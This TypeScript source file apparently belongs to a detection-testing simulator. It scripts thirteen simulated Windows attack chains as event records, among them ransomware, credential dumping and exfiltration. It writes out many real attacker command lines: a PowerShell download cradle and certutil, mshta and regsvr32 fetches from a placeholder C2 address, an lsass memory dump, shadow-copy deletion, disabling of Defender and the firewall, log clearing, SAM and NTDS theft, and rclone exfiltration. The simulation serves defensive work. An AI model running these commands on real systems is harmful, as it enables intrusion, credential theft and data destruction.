/** The attacks that can be simulated: each a story of several steps, told as an attacker would play it. */

import { PROGRAMS as P, program } from '../program.js';
import type { SimHost, SimProcess } from '../sim-host.js';
import { encodedCommand, UNBACKED_TRACE, type Attack } from './attack.js';

const SECOND_MS = 1000;
const C2 = '203.0.113.45';
const CRADLE = `IEX (New-Object Net.WebClient).DownloadString('http://${C2}/a.ps1')`;

const dropped = (image: string): ReturnType<typeof program> =>
  program(image, { company: '-', product: '-', originalFileName: '-' });

function discover(host: SimHost, shell: SimProcess, atMs: number): void {
  const steps = [
    [P.whoami, 'whoami /all'],
    [P.systeminfo, 'systeminfo'],
    [P.ipconfig, 'ipconfig /all'],
    [P.net, 'net user /domain'],
    [P.net, 'net group "domain admins" /domain'],
    [P.nltest, 'nltest /domain_trusts'],
    [P.tasklist, 'tasklist /v'],
    [P.netstat, 'netstat -ano'],
  ] as const;
  for (const [index, [tool, line]] of steps.entries())
    host.brief(shell, tool, line, atMs + index * 4 * SECOND_MS, 2 * SECOND_MS);
}

const phishingMacro: Attack = {
  name: 'phishing-macro',
  techniques: ['T1566.001', 'T1204.002', 'T1059.001', 'T1059.005', 'T1105', 'T1033', 'T1082', 'T1003.001'],
  play({ host, atMs }) {
    const word = host.brief(
      host.process('explorer'),
      P.word,
      `"${P.word.image}" /n "${host.profileFolder}\\Downloads\\invoice-4711.docm"`,
      atMs,
      600 * SECOND_MS,
    );
    host.loadImage(word, 'C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL', atMs + 900);
    const shell = host.brief(
      word,
      P.powershell,
      `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodedCommand(CRADLE)}`,
      atMs + 8 * SECOND_MS,
      500 * SECOND_MS,
    );
    host.connect(shell, C2, 80, atMs + 9 * SECOND_MS);
    host.createFile(shell, `${host.profileFolder}\\AppData\\Local\\Temp\\svc-update.exe`, atMs + 15 * SECOND_MS);
    const cmd = host.brief(shell, P.cmd, 'cmd.exe /c start /b svc-update.exe', atMs + 18 * SECOND_MS, 400 * SECOND_MS);
    const implant = host.brief(
      cmd,
      dropped(`${host.profileFolder}\\AppData\\Local\\Temp\\svc-update.exe`),
      'svc-update.exe',
      atMs + 19 * SECOND_MS,
      380 * SECOND_MS,
    );
    host.connect(implant, C2, 443, atMs + 21 * SECOND_MS);
    discover(host, cmd, atMs + 40 * SECOND_MS);
    host.access(implant, host.process('lsass'), '0x1010', UNBACKED_TRACE, atMs + 120 * SECOND_MS);
    host.brief(
      cmd,
      P.rundll32,
      `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${host.process('lsass').pid} ${host.profileFolder}\\AppData\\Local\\Temp\\l.dmp full`,
      atMs + 130 * SECOND_MS,
      6 * SECOND_MS,
      { integrity: 'High' },
    );
    return [{ host, start: word }];
  },
};

const ransomware: Attack = {
  name: 'ransomware',
  techniques: ['T1486', 'T1490', 'T1489', 'T1070.001', 'T1562.001'],
  play({ host, atMs }) {
    const locker = host.brief(
      host.process('explorer'),
      dropped(`${host.profileFolder}\\Downloads\\viewer.exe`),
      `"${host.profileFolder}\\Downloads\\viewer.exe"`,
      atMs,
      300 * SECOND_MS,
      { integrity: 'High' },
    );
    const cmd = host.brief(locker, P.cmd, 'cmd.exe /c prepare.bat', atMs + SECOND_MS, 30 * SECOND_MS);
    const lines = [
      [P.vssadmin, 'vssadmin.exe delete shadows /all /quiet'],
      [P.wbadmin, 'wbadmin delete catalog -quiet'],
      [P.bcdedit, 'bcdedit /set {default} recoveryenabled no'],
      [P.bcdedit, 'bcdedit /set {default} bootstatuspolicy ignoreallfailures'],
      [P.net, 'net stop MSSQLSERVER /y'],
      [P.wevtutil, 'wevtutil cl Security'],
      [P.powershell, 'powershell -c Set-MpPreference -DisableRealtimeMonitoring $true'],
    ] as const;
    for (const [index, [tool, line]] of lines.entries()) host.brief(cmd, tool, line, atMs + 2_000 + index * 1_200, 900);
    for (let file = 0; file < 400; file++) {
      host.createFile(
        locker,
        `${host.profileFolder}\\Documents\\archive\\doc-${file}.docx.locked`,
        atMs + 14_000 + file * 25,
      );
    }
    host.createFile(locker, `${host.profileFolder}\\Desktop\\HOW_TO_RESTORE_FILES.txt`, atMs + 26_000);
    return [{ host, start: locker }];
  },
};

const serviceExec: Attack = {
  name: 'service-exec',
  techniques: ['T1021.002', 'T1569.002', 'T1543.003', 'T1059.003'],
  play({ host, neighbour, atMs }) {
    const shell = host.brief(host.process('explorer'), P.cmd, `"${P.cmd.image}"`, atMs, 400 * SECOND_MS, {
      integrity: 'High',
    });
    const tool = host.brief(
      shell,
      program('C:\\Tools\\PsExec64.exe', {
        originalFileName: 'psexec.c',
        company: 'Sysinternals - www.sysinternals.com',
        product: 'Sysinternals PsExec',
      }),
      `psexec64.exe \\\\${neighbour.name} -accepteula -s cmd.exe`,
      atMs + 4_000,
      60 * SECOND_MS,
    );
    host.connect(tool, neighbour.ip, 445, atMs + 4_300, neighbour.name);
    const services = neighbour.process('services');
    neighbour.setValue(
      services,
      'HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath',
      '%SystemRoot%\\PSEXESVC.exe',
      atMs + 5_000,
    );
    const service = neighbour.brief(
      services,
      program('C:\\Windows\\PSEXESVC.exe', { originalFileName: 'psexesvc.exe' }),
      'C:\\Windows\\PSEXESVC.exe',
      atMs + 5_400,
      300 * SECOND_MS,
    );
    neighbour.pipe(17, service, '\\PSEXESVC', atMs + 5_600);
    const remote = neighbour.brief(service, P.cmd, '"cmd.exe"', atMs + 6_000, 250 * SECOND_MS);
    discover(neighbour, remote, atMs + 10_000);
    return [
      { host, start: shell },
      { host: neighbour, start: service },
    ];
  },
};

const wmiExec: Attack = {
  name: 'wmi-exec',
  techniques: ['T1047', 'T1059.003', 'T1059.001'],
  play({ neighbour, atMs }) {
    const provider = neighbour.brief(
      neighbour.process('svchost:DcomLaunch'),
      P.wmiprvse,
      'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
      atMs,
      300 * SECOND_MS,
    );
    const cmd = neighbour.brief(
      provider,
      P.cmd,
      'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1767603600.44 2>&1',
      atMs + 900,
      20 * SECOND_MS,
    );
    neighbour.brief(cmd, P.whoami, 'whoami', atMs + 1_000, 500);
    const shell = neighbour.brief(
      provider,
      P.powershell,
      `powershell -nop -w hidden -enc ${encodedCommand(CRADLE)}`,
      atMs + 9_000,
      200 * SECOND_MS,
    );
    neighbour.connect(shell, C2, 80, atMs + 10_000);
    discover(neighbour, shell, atMs + 15_000);
    return [
      { host: neighbour, start: cmd },
      { host: neighbour, start: shell },
    ];
  },
};

const beacon: Attack = {
  name: 'beacon',
  techniques: ['T1055', 'T1055.001', 'T1071.001', 'T1218.011'],
  play({ host, atMs }) {
    const start = host.brief(
      host.process('explorer'),
      P.rundll32,
      `rundll32.exe ${host.profileFolder}\\AppData\\Roaming\\cache.dat,StartW`,
      atMs,
      900 * SECOND_MS,
    );
    host.loadImage(start, `${host.profileFolder}\\AppData\\Roaming\\cache.dat`, atMs + 200, false);
    for (let turn = 0; turn < 8; turn++) host.connect(start, C2, 443, atMs + 2_000 + turn * 60_000);
    host.pipe(17, start, `\\MSSE-${host.random.integer(1000, 9999)}-server`, atMs + 400);
    const victim = host.brief(start, P.dllhost, 'C:\\Windows\\System32\\dllhost.exe', atMs + 90_000, 600 * SECOND_MS);
    host.remoteThread(start, victim, atMs + 90_500);
    host.access(start, victim, '0x1fffff', UNBACKED_TRACE, atMs + 90_450);
    host.pipe(17, start, '\\postex_4c1a', atMs + 91_000);
    const shell = host.brief(
      start,
      P.cmd,
      'C:\\Windows\\system32\\cmd.exe /C net group "Domain Admins" /domain',
      atMs + 120_000,
      4_000,
    );
    discover(host, shell, atMs + 121_000);
    return [{ host, start }];
  },
};

const uacBypass: Attack = {
  name: 'uac-bypass',
  techniques: ['T1548.002', 'T1112', 'T1059.001'],
  play({ host, atMs }) {
    const shell = host.brief(
      host.process('explorer'),
      P.powershell,
      `"${P.powershell.image}" -ep bypass -File ${host.profileFolder}\\Downloads\\fix.ps1`,
      atMs,
      300 * SECOND_MS,
    );
    const key = 'HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command';
    host.setValue(shell, `${key}\\(Default)`, 'cmd.exe /c powershell -w hidden', atMs + 3_000);
    host.setValue(shell, `${key}\\DelegateExecute`, '(Empty)', atMs + 3_100);
    const helper = host.brief(
      shell,
      P.fodhelper,
      '"C:\\Windows\\System32\\fodhelper.exe"',
      atMs + 4_000,
      20 * SECOND_MS,
      { integrity: 'High' },
    );
    const cmd = host.brief(helper, P.cmd, 'cmd.exe /c powershell -w hidden', atMs + 4_600, 200 * SECOND_MS);
    host.brief(cmd, P.powershell, 'powershell -w hidden', atMs + 4_900, 190 * SECOND_MS);
    return [{ host, start: shell }];
  },
};

const persistence: Attack = {
  name: 'persistence',
  techniques: ['T1053.005', 'T1547.001', 'T1059.007'],
  play({ host, atMs }) {
    const script = host.brief(
      host.process('explorer'),
      P.wscript,
      `"${P.wscript.image}" "${host.profileFolder}\\Downloads\\update.js"`,
      atMs,
      200 * SECOND_MS,
    );
    host.createFile(
      script,
      `${host.profileFolder}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.js`,
      atMs + 2_000,
    );
    const cmd = host.brief(script, P.cmd, 'cmd.exe /c install.cmd', atMs + 3_000, 60 * SECOND_MS);
    host.brief(
      cmd,
      P.schtasks,
      `schtasks /create /tn "Updater" /sc minute /mo 15 /f /tr "powershell -w hidden -enc ${encodedCommand(CRADLE)}"`,
      atMs + 4_000,
      1_500,
    );
    host.brief(
      cmd,
      P.reg,
      `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "wscript ${host.profileFolder}\\AppData\\Roaming\\update.js" /f`,
      atMs + 7_000,
      1_000,
    );
    host.setValue(
      cmd,
      'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      `wscript ${host.profileFolder}\\AppData\\Roaming\\update.js`,
      atMs + 7_200,
    );
    return [{ host, start: script }];
  },
};

const hiveTheft: Attack = {
  name: 'hive-theft',
  techniques: ['T1003.002', 'T1003.004', 'T1555.003'],
  play({ host, atMs }) {
    const cmd = host.brief(host.process('explorer'), P.cmd, `"${P.cmd.image}"`, atMs, 300 * SECOND_MS, {
      integrity: 'High',
    });
    for (const [index, hive] of ['SAM', 'SECURITY', 'SYSTEM'].entries()) {
      host.brief(
        cmd,
        P.reg,
        `reg save HKLM\\${hive} C:\\Users\\Public\\${hive.toLowerCase()}.save`,
        atMs + 3_000 + index * 2_000,
        1_500,
      );
    }
    host.brief(
      cmd,
      P.cmd,
      `cmd /c copy "${host.profileFolder}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\Users\\Public\\ld`,
      atMs + 12_000,
      900,
    );
    return [{ host, start: cmd }];
  },
};

const directoryTheft: Attack = {
  name: 'directory-theft',
  techniques: ['T1003.003', 'T1490'],
  play({ host, atMs }) {
    const cmd = host.brief(host.process('explorer'), P.cmd, `"${P.cmd.image}"`, atMs, 300 * SECOND_MS, {
      integrity: 'High',
    });
    host.brief(cmd, P.vssadmin, 'vssadmin create shadow /for=C:', atMs + 2_000, 5_000);
    host.brief(
      cmd,
      P.cmd,
      'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Users\\Public\\n.dit',
      atMs + 9_000,
      9_000,
    );
    host.brief(
      cmd,
      P.ntdsutil,
      'ntdsutil "ac i ntds" "ifm" "create full C:\\Users\\Public\\x" q q',
      atMs + 30_000,
      9_000,
    );
    return [{ host, start: cmd }];
  },
};

const proxyExecution: Attack = {
  name: 'proxy-execution',
  techniques: ['T1218.005', 'T1218.010', 'T1218.011', 'T1105'],
  play({ host, atMs }) {
    const mshta = host.brief(
      host.process('explorer'),
      P.mshta,
      `mshta.exe http://${C2}/start.hta`,
      atMs,
      120 * SECOND_MS,
    );
    host.connect(mshta, C2, 80, atMs + 700);
    const certutil = host.brief(
      mshta,
      P.certutil,
      `certutil -urlcache -split -f http://${C2}/p.dll C:\\Users\\Public\\p.dll`,
      atMs + 4_000,
      3_000,
    );
    host.createFile(certutil, 'C:\\Users\\Public\\p.dll', atMs + 6_000);
    const regsvr = host.brief(
      mshta,
      P.regsvr32,
      `regsvr32 /s /n /u /i:http://${C2}/s.sct scrobj.dll`,
      atMs + 9_000,
      60 * SECOND_MS,
    );
    host.connect(regsvr, C2, 80, atMs + 9_600);
    host.brief(regsvr, P.rundll32, 'rundll32.exe C:\\Users\\Public\\p.dll,Run', atMs + 14_000, 60 * SECOND_MS);
    return [{ host, start: mshta }];
  },
};

const blinding: Attack = {
  name: 'blinding',
  techniques: ['T1562.001', 'T1562.002', 'T1562.004', 'T1112', 'T1070.001'],
  play({ host, atMs }) {
    const shell = host.brief(host.process('explorer'), P.powershell, `"${P.powershell.image}"`, atMs, 300 * SECOND_MS, {
      integrity: 'High',
    });
    host.brief(
      shell,
      P.powershell,
      'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true',
      atMs + 2_000,
      3_000,
    );
    host.setValue(
      shell,
      'HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential',
      'DWORD (0x00000001)',
      atMs + 6_000,
    );
    host.brief(shell, P.netsh, 'netsh advfirewall set allprofiles state off', atMs + 8_000, 1_500);
    host.brief(shell, P.sc, 'sc config eventlog start= disabled', atMs + 11_000, 900);
    host.brief(shell, P.wevtutil, 'wevtutil cl System', atMs + 14_000, 900);
    return [{ host, start: shell }];
  },
};

const exfiltration: Attack = {
  name: 'exfiltration',
  techniques: ['T1560.001', 'T1567.002', 'T1074.001'],
  play({ host, atMs }) {
    const cmd = host.brief(host.process('explorer'), P.cmd, `"${P.cmd.image}"`, atMs, 500 * SECOND_MS);
    host.brief(
      cmd,
      program('C:\\Users\\Public\\7z.exe', { originalFileName: '7z.exe' }),
      '7z.exe a -pQwe123 -mhe C:\\Users\\Public\\out.7z C:\\Shares\\Finance',
      atMs + 4_000,
      60 * SECOND_MS,
    );
    const rclone = host.brief(
      cmd,
      program('C:\\Users\\Public\\rclone.exe', {
        originalFileName: 'rclone.exe',
        company: 'https://rclone.org',
        product: 'Rclone',
      }),
      'rclone.exe copy C:\\Users\\Public\\out.7z mega:out --no-check-certificate --transfers 8',
      atMs + 70_000,
      200 * SECOND_MS,
    );
    host.query(rclone, 'g.api.mega.co.nz', '66.203.125.11', atMs + 71_000);
    host.connect(rclone, '66.203.125.11', 443, atMs + 71_200);
    return [{ host, start: cmd }];
  },
};

const webShell: Attack = {
  name: 'web-shell',
  techniques: ['T1505.003', 'T1059.003', 'T1033'],
  play({ host, atMs }) {
    const worker = host.brief(
      host.process('svchost:netsvcs'),
      P.w3wp,
      'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
      atMs,
      900 * SECOND_MS,
      { user: 'IIS APPPOOL\\DefaultAppPool', integrity: 'High' },
    );
    host.createFile(worker, 'C:\\inetpub\\wwwroot\\aspnet_client\\help.aspx', atMs + 30_000);
    const cmd = host.brief(worker, P.cmd, 'cmd.exe /c "cd /d C:\\inetpub\\wwwroot & whoami"', atMs + 60_000, 3_000);
    host.brief(cmd, P.whoami, 'whoami', atMs + 60_200, 400);
    const next = host.brief(
      worker,
      P.cmd,
      'cmd.exe /c "net localgroup administrators & ipconfig /all"',
      atMs + 80_000,
      30_000,
    );
    discover(host, next, atMs + 80_500);
    return [{ host, start: worker }];
  },
};

export const ATTACKS: readonly Attack[] = [
  phishingMacro,
  ransomware,
  serviceExec,
  wmiExec,
  beacon,
  uacBypass,
  persistence,
  hiveTheft,
  directoryTheft,
  proxyExecution,
  blinding,
  exfiltration,
  webShell,
];
